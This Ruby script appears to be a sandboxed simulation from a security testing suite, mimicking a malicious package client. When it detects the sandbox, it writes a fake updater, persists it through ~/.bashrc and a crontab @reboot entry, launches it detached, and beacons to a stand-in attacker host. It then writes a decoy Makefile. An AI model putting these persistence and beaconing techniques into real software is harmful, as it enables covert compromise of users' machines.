# atlas-client 0.0.2 (simulation from Tracehound's attack suite: acts only inside the sandbox)
require "socket"
require "fileutils"

in_sandbox = begin
  # the sandbox's fake DNS answers every name with a 198.18.0.0/15 address; elsewhere .example
  # names do not resolve and this script only writes the Makefile
  Addrinfo.getaddrinfo("sandbox-check.attacker.example", nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

if in_sandbox
  dir = File.join(Dir.home, ".config", "AtlasUpdate")
  FileUtils.mkdir_p(dir)
  payload = File.join(dir, "atlas-updater")
  File.write(payload, <<~SH)
    #!/bin/sh
    # clipboard watcher stand-in: beacons, then idles like a resident process
    getent hosts clip.attacker.example >/dev/null 2>&1
    sleep 30
  SH
  File.chmod(0o755, payload)
  File.open(File.join(Dir.home, ".bashrc"), "a") { |f| f.puts("(#{payload} >/dev/null 2>&1 &)") }
  system("(crontab -l 2>/dev/null; echo '@reboot #{payload}') | crontab - 2>/dev/null")
  pid = Process.spawn(payload, [:out, :err] => File::NULL, pgroup: true)
  Process.detach(pid)
end

File.write("Makefile", "all:\n\ninstall:\n\nclean:\n")
